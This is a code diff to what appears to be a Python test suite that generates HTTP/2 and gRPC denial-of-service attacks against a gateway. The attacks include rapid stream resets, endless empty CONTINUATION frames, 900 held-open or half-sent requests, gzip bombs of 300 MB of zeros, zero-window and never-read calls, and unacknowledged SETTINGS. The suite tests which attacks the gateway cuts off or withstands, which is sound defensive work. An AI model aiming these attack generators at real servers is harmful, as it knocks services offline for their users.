@@ -11,10 +11,10 @@ from hpack import Encoder
 import frames
 
 OPEN_WINDOW = (1 << 31) - 1
-HALF_SENT = 900  # calls at a time of one that keeps to max_streams
+CALLS_AT_ONCE = 900  # calls at a time of one that keeps to max_streams
 CALL_BYTES = (1 << 20) - 5  # of one that keeps to max_request_bytes
 LARGE_HEADER = 16000
-BOMB = 300 << 20
+BOMB, BOMBS = 300 << 20, 6  # bytes of one; at a time
 GZIP = [("grpc-encoding", "gzip")]
 
 
@@ -56,7 +56,8 @@ class Attack:
     what: str
     opening: typing.Callable  # of a Wire: bytes
     blocks: typing.Callable  # of a Wire: bytes without end, of which b"" waits
-    reasons: tuple = ()  # why it may be cut, as metrics have it; none: it need not be
+    reasons: tuple = ()  # why it is to be cut, as metrics have it; none: its cost is bounded otherwise
+    patient: bool = False  # only time makes it an offence: at full speed it is no faster than when mild
     right: bool = False  # today's gateway stands it, and is to go on so
     reads: bool = True
     windows: bool = False  # the attack needs to know of them
@@ -103,13 +104,21 @@ def continuation(wire):
     return itertools.chain([opened], forever(frames.continuation(3, piece)))
 
 
+@attack("held_open", "opens 900 streams and then is silent", "unfinished_calls", patient=True)
+def held_open(wire):
+    block = wire.header_block("GetNumber")
+    yield b"".join(frames.headers(stream, block) for stream in range(3, 3 + 2 * CALLS_AT_ONCE, 2))
+    while True:
+        yield b""
+
+
 @attack("empty_continuation", "CONTINUATION without end and without a byte", "header_block", "idle_frames")
 def empty_continuation(wire):
     opened = frames.headers(3, wire.header_block("GetNumber"), "OPEN")
     return itertools.chain([opened], forever(frames.continuation(3, b"")))
 
 
-@attack("rapid_reset", "opens a stream and resets it at once", "rapid_resets", "idle_frames", "unfinished_calls")
+@attack("rapid_reset", "opens a stream and resets it at once", "rapid_resets", "idle_frames")
 def rapid_reset(wire):
     block = wire.header_block("GetNumber")
     return frames.NewStreams(lambda stream: frames.headers(stream, block) + frames.reset(stream), wire.streams)
@@ -158,15 +167,14 @@ def empty_data(wire):
     return forever(frames.data(1))
 
 
-@attack("half_sent", "900 requests of 1 MiB that lack their last bytes", "unfinished_bytes", "unfinished_calls",
-        windows=True)
+@attack("half_sent", "900 requests of 1 MiB that lack their last bytes", windows=True)
 def half_sent(wire):
     """Keeps to the windows that it is given."""
     block = wire.header_block("GetNumber")
     rest, left = {}, collections.Counter()  # by stream: bytes until it lacks only the last ones; its window
     ready = []  # streams that have both
     begin = frames.message(bytes(CALL_BYTES))[:5]
-    streams = iter(range(3, 3 + 2 * HALF_SENT, 2))
+    streams = iter(range(3, 3 + 2 * CALLS_AT_ONCE, 2))
     while True:
         for stream in list(wire.windows):
             left[stream] += wire.windows.pop(stream)
@@ -197,14 +205,14 @@ def bomb():
     return frames.message(frames.deflated_zeros(BOMB), compressed=True)
 
 
-@attack("bombs", "requests of 300 KB that are 300 MB of zeros, by gzip, 16 at a time", windows=True,
+@attack("bombs", "requests of 300 KB that are 300 MB of zeros, by gzip, 6 at a time", windows=True,
         opening=lambda wire: frames.preface() + frames.settings_ack() + wire.whole_call(1, more=GZIP))
 def bombs(wire):
     """Keeps to the windows, so that each comes whole."""
     block = wire.header_block("GetNumber", GZIP)
     body = bomb()
     for round_of in itertools.count():
-        streams = range(3 + 32 * round_of, 3 + 32 * (round_of + 1), 2)
+        streams = range(3 + 2 * BOMBS * round_of, 3 + 2 * BOMBS * (round_of + 1), 2)
         yield b"".join(frames.headers(stream, block) for stream in streams)
         sent = dict.fromkeys(streams, 0)
         for stream in streams:
@@ -232,21 +240,51 @@ def tiny_records(wire):
     return forever(frames.ping())
 
 
-@attack("never_read", "asks for lists and never reads", right=True, reads=False,
-        opening=lambda wire: frames.preface(OPEN_WINDOW) + frames.settings_ack() +
-        frames.window_update(0, OPEN_WINDOW - frames.WINDOW) + wire.whole_call(1, "ListAvailableNumbers", b""))
-def never_read(wire):
+def all_at_once(wire, calls=CALLS_AT_ONCE):
+    """So many calls of lists, and then nothing."""
+    block = wire.header_block("ListAvailableNumbers")
+    body = frames.message(b"")
+    yield b"".join(frames.headers(stream, block) + frames.data(stream, body, end=True)
+                   for stream in range(3, 3 + 2 * calls, 2))
+    while True:
+        yield b""
+
+
+def open_window(wire):
+    return (frames.preface(OPEN_WINDOW) + frames.settings_ack() +
+            frames.window_update(0, OPEN_WINDOW - frames.WINDOW) + wire.whole_call(1, "ListAvailableNumbers", b""))
+
+
+def closed_window(wire):
+    return frames.preface(0) + frames.settings_ack() + wire.whole_call(1, "ListAvailableNumbers", b"")
+
+
+@attack("endless_calls", "asks for lists without end, and gives the answers no window", reads=False,
+        opening=closed_window)
+def endless_calls(wire):
     block = wire.header_block("ListAvailableNumbers")
     body = frames.message(b"")
     return frames.NewStreams(lambda stream: frames.headers(stream, block) + frames.data(stream, body, end=True),
                              wire.streams)
 
 
-@attack("no_window", "asks for lists and gives them no window", right=True,
-        opening=lambda wire: frames.preface(0) + frames.settings_ack() +
-        wire.whole_call(1, "ListAvailableNumbers", b""))
+@attack("unacknowledged", "calls without end, and SETTINGS never acknowledged", "unacknowledged",
+        opening=lambda wire: frames.preface() + wire.whole_call(1))
+def unacknowledged(wire):
+    block = wire.header_block("GetNumber")
+    body = frames.message(frames.field(1, wire.number))
+    return frames.NewStreams(lambda stream: frames.headers(stream, block) + frames.data(stream, body, end=True),
+                             wire.streams)
+
+
+@attack("never_read", "asks for 900 lists at once and never reads", right=True, reads=False, opening=open_window)
+def never_read(wire):
+    return all_at_once(wire)
+
+
+@attack("no_window", "asks for 900 lists at once and gives them no window", right=True, opening=closed_window)
 def no_window(wire):
-    return never_read(wire)
+    return all_at_once(wire)
 
 
 @attack("priority", "PRIORITY without end", right=True)
